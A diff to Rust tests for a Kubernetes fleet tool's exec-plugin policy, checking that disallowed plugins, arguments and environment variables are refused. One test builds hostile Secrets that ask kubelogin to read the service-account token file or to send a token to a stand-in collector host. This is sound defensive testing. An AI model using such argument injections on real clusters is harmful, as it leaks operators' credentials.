@@ -11,6 +11,8 @@ use k8s_openapi::api::core::v1::Secret;
 use kube::client::Body;
 use serde_json::json;
 
+use crate::core::exec::{ArgsEntry, Declared, EnvEntry, Kind};
+
 use super::{
     kubeconfig::CONNECT_TIMEOUT,
     tests::{argo, capi, kubeconfig},
@@ -102,12 +104,32 @@ fn client_of(hub: &Arc<Mutex<Hub>>) -> Client {
     Client::new(service, "fleet")
 }
 
-/// Members of a fake hub holding `secrets` (also for the member watches' tests).
+/// Members of a fake hub holding `secrets` (also for the member watches' tests), running the plugins
+/// `sh`, `sleep` and `fleetroll-no-such-plugin` with the arguments the Secrets give them.
 pub(crate) fn fleet(secrets: Vec<Secret>) -> (Members, Arc<Mutex<Hub>>) {
-    let hub = Arc::new(Mutex::new(Hub { secrets, ..Default::default() }));
     let plugins = ["sh", "sleep", "fleetroll-no-such-plugin"].map(String::from).to_vec();
-    let exec = ExecPolicy { commands: plugins, env: vec!["PLUGIN_*".into()] };
+    let env = plugins.iter().map(|p| format!("{p}=PLUGIN_SECRET,PLUGIN_PYTHON_ARGS=-c print(1)").parse());
+    let env: Vec<EnvEntry> = env.collect::<Result<_, _>>().unwrap();
+    let exec = ExecPolicy::new(&plugins, &as_given(&secrets), &env).unwrap();
+    let hub = Arc::new(Mutex::new(Hub { secrets, ..Default::default() }));
     (Members::new(client_of(&hub), "fleet".into()).with_exec(exec), hub)
+}
+
+/// Entries allowing each Secret's exec plugin the arguments it is given: `sh -c SCRIPT`, `sleep N`.
+fn as_given(secrets: &[Secret]) -> Vec<ArgsEntry> {
+    let configs = secrets.iter().filter_map(|s| parse(s, None).ok().flatten()).map(|(_, c)| c);
+    let entry = |config: MemberConfig| {
+        let command = config.exec_command()?.to_string();
+        Some(match config.exec_args() {
+            [c, script] if c == "-c" => {
+                let flags =
+                    vec![Declared { names: vec![c.clone()], kinds: vec![Kind::Literal(script.clone())] }];
+                ArgsEntry { command, path: vec![], flags }
+            }
+            path => ArgsEntry { command, path: path.to_vec(), flags: vec![] },
+        })
+    };
+    configs.filter_map(entry).collect()
 }
 
 fn asked(hub: &Arc<Mutex<Hub>>) -> Vec<String> {
@@ -233,15 +255,59 @@ async fn an_exec_plugin_this_installation_does_not_allow_is_never_run() {
     let marker = std::env::temp_dir().join(format!("fleetroll-exec-ran-{}", std::process::id()));
     let secret = exec("sh", &["-c", &format!("touch {}", marker.display())], "");
     let (allowed, _) = fleet(vec![secret.clone()]);
-    let (default, _) = fleet(vec![secret]);
+    let (default, _) = fleet(vec![secret.clone()]);
     let default = default.with_exec(ExecPolicy::default());
     let refused = failed(default.client("dev").await).to_string();
-    assert!(refused.contains("\"sh\" is not one this installation runs"), "{refused}");
+    assert!(
+        refused.contains("\"sh\" of member cluster \"dev\" is not one this installation runs"),
+        "{refused}"
+    );
+    assert!(!marker.exists(), "the plugin ran");
+    // Members given no policy run no plugin.
+    let (_, hub) = fleet(vec![secret]);
+    let refused = failed(Members::new(client_of(&hub), "fleet".into()).client("dev").await).to_string();
+    assert!(refused.contains("\"sh\" of member cluster \"dev\" is not run here"), "{refused}");
     assert!(!marker.exists(), "the plugin ran");
     // The same Secret where sh is allowed: the plugin runs (and fails, printing no credential).
     let _ = allowed.client("dev").await;
     assert!(marker.exists(), "the allowed plugin did not run: the check above proves nothing");
     let _ = std::fs::remove_file(&marker);
+}
+
+#[tokio::test]
+async fn kubelogin_asked_to_send_the_operators_token_to_an_endpoint_is_never_run() {
+    // A stand-in for kubelogin, allowed with the built-in arguments of kubelogin, recording each run.
+    let dir = std::env::temp_dir().join(format!("fleetroll-kubelogin-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let plugin = dir.join("kubelogin");
+    std::fs::write(&plugin, "#!/bin/sh\necho \"$@\" >> \"$(dirname \"$0\")/ran\"\nexit 1\n").unwrap();
+    std::fs::set_permissions(&plugin, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    let command = plugin.display().to_string();
+    let builtin = crate::core::exec::DEFAULT_ARGS.iter().find(|e| e.starts_with("kubelogin ")).unwrap();
+    let entry: ArgsEntry = builtin.replacen("kubelogin", &command, 1).parse().unwrap();
+    let policy = ExecPolicy::new(std::slice::from_ref(&command), &[entry], &[]).unwrap();
+    let with_args = |args: &[&str]| {
+        let exec = json!({"command": command, "args": args, "apiVersion": "client.authentication.k8s.io/v1"});
+        argo("cluster-dev", "dev", SERVER, &json!({"execProviderConfig": exec}))
+    };
+    let token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
+    let attack = ["get-token", "--login", "workloadidentity", "--federated-token-file", token];
+    let endpoint = ["get-token", "--login=workloadidentity", "--authority-host=https://collector.example/"];
+    for asked in [&attack[..], &endpoint] {
+        let (members, _) = fleet(vec![with_args(asked)]);
+        let members = members.with_exec(policy.clone());
+        let refused = failed(members.client("dev").await).to_string();
+        assert!(refused.contains("of member cluster \"dev\" may not be given \"--"), "{refused}");
+        assert!(!refused.contains(token) && !refused.contains("collector"), "{refused}");
+        let (listed, refused) = members.list().await.unwrap();
+        assert!(listed.is_empty() && refused.len() == 1, "refused when listed too: {refused:?}");
+    }
+    assert!(!dir.join("ran").exists(), "the plugin ran");
+    let (members, _) = fleet(vec![with_args(&["get-token", "--login", "msi", "-t", "contoso"])]);
+    let _ = members.with_exec(policy).client("dev").await;
+    let ran = std::fs::read_to_string(dir.join("ran")).unwrap_or_default();
+    assert_eq!(ran, "get-token --login msi -t contoso\n", "the allowed run: the check above proves nothing");
+    let _ = std::fs::remove_dir_all(&dir);
 }
 
 #[tokio::test]
@@ -255,12 +321,9 @@ async fn an_allowed_plugin_given_a_variable_this_installation_does_not_allow_is_
     // gcloud runs the Python this names with these arguments: the command is allowed, the variable is not.
     let (members, _) = fleet(vec![with_env("CLOUDSDK_PYTHON_ARGS")]);
     let refused = failed(members.client("dev").await).to_string();
-    assert!(
-        refused.contains("env sets \"CLOUDSDK_PYTHON_ARGS\", which this installation lets no Secret set"),
-        "{refused}"
-    );
+    assert!(refused.contains("may not be given variable \"CLOUDSDK_PYTHON_ARGS\""), "{refused}");
     assert!(!marker.exists(), "the plugin ran");
-    // A variable the installation allows (PLUGIN_* in these tests): the plugin runs.
+    // A variable the installation allows for sh (in these tests), with that value: the plugin runs.
     let (members, _) = fleet(vec![with_env("PLUGIN_PYTHON_ARGS")]);
     let _ = members.client("dev").await;
     assert!(marker.exists(), "the allowed plugin did not run: the check above proves nothing");
